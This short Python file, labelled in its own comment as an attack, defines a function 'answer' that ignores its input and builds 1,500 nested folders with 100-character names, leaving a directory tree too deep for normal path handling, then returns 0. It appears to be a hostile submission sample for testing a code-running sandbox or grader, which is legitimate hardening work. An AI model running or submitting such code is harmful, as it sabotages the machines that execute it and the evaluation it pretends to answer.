# attack: leaves a tree of folders too deep for a path
# ruff: noqa
import os


def answer(n):
    for _ in range(1500):
        os.mkdir("d" * 100)
        os.chdir("d" * 100)
    return 0
